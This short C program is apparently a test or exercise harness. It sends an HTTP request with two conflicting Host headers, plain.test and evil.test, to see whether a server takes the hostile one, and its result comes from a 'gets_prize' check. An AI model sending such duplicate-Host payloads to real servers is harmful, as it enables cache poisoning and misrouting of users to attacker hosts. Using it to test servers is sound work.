/* Two hosts, of which servers take one or the other. */
#include "attack.h"
int main(int c, char **v) {
    char address[64];
    const char *request = "GET / HTTP/1.1\r\nHost: plain.test\r\nHost: evil.test\r\n\r\n";
    if (!lookup("plain.test", address)) finish(0);
    int fd = dial(address, 80);
    if (fd < 0) finish(0);
    send(fd, request, strlen(request), 0);
    finish(gets_prize(fd));
}
